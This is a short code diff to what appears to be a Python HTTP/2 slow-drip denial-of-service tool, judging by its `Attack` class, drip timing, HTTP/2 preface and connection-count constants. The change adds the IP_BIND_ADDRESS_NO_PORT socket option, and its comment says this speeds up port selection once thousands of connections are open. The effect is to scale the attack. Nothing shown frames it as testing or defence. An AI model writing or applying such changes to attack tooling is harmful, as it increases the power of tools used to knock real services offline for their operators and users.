@@ -19,6 +19,7 @@ DRIP_SECONDS = 2
 CONNECTING_AT_ONCE = 256
 HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 LARGEST_WINDOW = 0x7FFFFFFF
+IP_BIND_ADDRESS_NO_PORT = 24
 
 
 @dataclass(frozen=True)
@@ -116,6 +117,8 @@ class Attack:
     def _open(self) -> None:
         raw = socket.socket()
         try:
+            # The port is chosen by `connect`: to find a free one here takes 20 ms after thousands of connections.
+            raw.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
             raw.bind((self._source, 0))
             raw.settimeout(5)
             raw.connect(self._target)
